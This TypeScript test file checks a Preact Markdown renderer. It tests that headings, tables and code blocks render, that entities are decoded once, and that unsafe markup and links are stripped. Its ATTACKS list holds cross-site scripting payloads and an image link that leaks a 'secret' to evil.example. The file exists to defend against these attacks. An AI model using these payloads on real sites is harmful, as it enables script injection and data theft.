import assert from "node:assert/strict";
import { test } from "node:test";
import type { ComponentChild, VNode } from "preact";
import { decoded } from "../src/shared/entities.ts";
import { highlighted } from "../src/shared/highlight.ts";
import { Markdown, safeUrl } from "../src/shared/markdown.tsx";

/** Each element's name, attributes and content as text. Components are called, but for those with state. */
function drawn(node: ComponentChild): string {
  if (node === null || node === undefined || typeof node === "boolean") return "";
  if (Array.isArray(node)) return node.map(drawn).join("");
  if (typeof node !== "object") return String(node).replaceAll("<", "‹");
  const { type, props } = node as VNode<Record<string, unknown>>;
  if (typeof type === "function") {
    if (type.name === "Code") return `[code ${props.language}: ${props.code}]`.replaceAll("<", "‹");
    return drawn((type as (props: unknown) => ComponentChild).call({}, props));
  }
  const { children, ...attributes } = props;
  const names = Object.entries(attributes).filter(([, value]) => value !== undefined).map(([name, value]) => ` ${name}=${String(value)}`);
  return `<${String(type)}${names.join("")}>${drawn(children as ComponentChild)}</${String(type)}>`;
}

const shown = (text: string) => drawn(Markdown({ text }) as ComponentChild);

test("blocks and inlines become elements", () => {
  assert.equal(shown("# A *b*"), "<h3>A <em>b</em></h3>");
  assert.equal(shown("a **b** `c<d` ~~e~~"), "<p>a <strong>b</strong> <code>c‹d</code> <del>e</del></p>");
  assert.equal(shown("1. a\n2. b"), "<ol start=1><li>a</li><li>b</li></ol>");
  assert.match(shown("- [x] done"), /<li class=task><input type=checkbox checked=true/);
  assert.equal(shown("```py\nx<1\n```"), "[code py: x‹1]");
  assert.match(shown("|a|b|\n|-|-:|\n|1|2|"), /<th>a<\/th><th class=align-right>b<\/th>.*<td>1<\/td><td class=align-right>2<\/td>/);
  assert.equal(shown("> a"), "<blockquote><p>a</p></blockquote>");
});

test("character references are decoded once", () => {
  assert.equal(shown("a &amp; b &lt;i&gt; &amp;lt; &#65; &unknown;"), "<p>a & b ‹i> &lt; A &unknown;</p>");
  assert.equal(decoded("&#0;&#xD800;&#x1F600;"), "\ufffd\ufffd😀");
});

const ATTACKS = [
  "<img src=x onerror=alert(1)>",
  "<script>alert(1)</script>",
  "<svg><script>alert(1)</script></svg>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "![a](https://evil.example/?q=secret)",
  "[a](javascript:alert(1))",
  "[a](data:text/html,<script>alert(1)</script>)",
  "[a](&#106;avascript:alert(1))",
  "[a](//evil.example)",
  "<form action=https://evil.example><input name=q></form>",
  "<div style='position:fixed;inset:0'>x</div>",
  "<a id=app name=body>x</a>",
  "```\"><img src=x onerror=alert(1)>\nx\n```",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<button formaction=javascript:alert(1)>x</button>",
];

test("no markup of an answer becomes an element that loads, runs or covers anything", () => {
  for (const attack of ATTACKS) {
    const result = shown(`before ${attack}\n\n${attack}`);
    assert.doesNotMatch(result, /<(img|script|svg|iframe|form|math|style|button|input|object|embed|link)/, attack);
    assert.doesNotMatch(result, /<[^>]* (style|id|srcdoc|on\w+|src)=/, attack);
    for (const [, href = ""] of result.matchAll(/href=(\S+)/g)) assert.match(href, /^(https?|mailto):/, attack);
  }
});

test("links go to whole addresses only", () => {
  assert.equal(safeUrl("https://a.example/b?c=1&amp;d=2"), "https://a.example/b?c=1&d=2");
  assert.equal(safeUrl("mailto:a@b.example"), "mailto:a@b.example");
  for (const refused of ["javascript:1", "JaVaScRiPt:1", "data:text/html,x", "file:///etc/passwd", "//a.example", "/v1/models", "blob:x"]) {
    assert.equal(safeUrl(refused), null, refused);
  }
});

test("code of a known language has colours, other code is text", () => {
  assert.match(drawn(highlighted("def f(): return 1", "py")), /<span class=hljs-keyword>def<\/span>/);
  assert.match(drawn(highlighted("const a = 1", "js")), /<span class=hljs-keyword>const<\/span>/);
  assert.equal(drawn(highlighted("a < b", "unknown")), "a ‹ b");
});
